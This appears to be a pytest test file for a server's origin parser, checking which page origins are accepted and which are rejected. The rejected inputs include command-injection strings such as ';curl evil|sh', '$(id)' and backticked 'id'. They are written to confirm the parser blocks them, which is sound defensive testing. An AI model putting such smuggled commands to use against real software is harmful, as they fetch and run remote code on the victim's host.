"""What may be shown as the origin of a page."""

from __future__ import annotations

import re
import sys

import pytest
from hypothesis import given
from hypothesis import strategies as st

from server.core.model.errors import OriginBlocked
from server.core.model.origin import parse_origin


@pytest.mark.parametrize(
    "text",
    [
        "https://shop.example",
        "http://localhost:3000",
        "http://127.0.0.1:8000",
        "http://[::1]:8000",
        "https://xn--mnchen-3ya.example",
        "chrome-extension://abcdefghijklmnop",
        "https://a_b.example",
        "null",
    ],
)
def test_an_origin_is_one(text: str) -> None:
    assert parse_origin(text) == text
    assert parse_origin(text.upper()) == text


@pytest.mark.parametrize(
    "text",
    [
        "",
        "shop.example",
        "https://",
        "https://shop.example/",
        "https://shop.example/path",
        "https://shop.example;curl evil|sh #",
        "https://shop.example\ncurl evil",
        "https://shop.example$(id)",
        "https://`id`.example",
        "https://shop.example, https://evil.example",
        "https://user@shop.example",
        "https://shop.example:99999999",
        "https://<b>.example",
        "https://-.example",
        "https://a..example",
        "https://" + "a" * 400,
        "https://" + "a-" * 140 + "!",
        "null null",
    ],
)
def test_what_is_none(text: str) -> None:
    assert parse_origin(text) is None


@given(st.text(max_size=60) | st.from_regex(re.compile(r"https?://[^/]{1,40}"), fullmatch=True))
def test_nothing_that_a_shell_would_read_gets_through(text: str) -> None:
    origin = parse_origin(text)
    assert origin is None or re.fullmatch(r"[a-z0-9.:/\[\]_+-]+", origin)


def test_a_long_one_costs_no_more_steps() -> None:
    steps = 0

    def count(*_: object) -> None:
        nonlocal steps
        steps += 1

    sys.setprofile(count)
    parse_origin("https://" + "a-" * 10_000_000)
    sys.setprofile(None)
    assert steps < 10


def test_a_blocked_page_is_named_only_where_it_has_a_name() -> None:
    assert OriginBlocked("https://shop.example").origin == "https://shop.example"
    blocked = OriginBlocked("https://shop.example;curl evil|sh #")
    assert "curl" not in blocked.origin
    assert "curl" not in str(blocked)
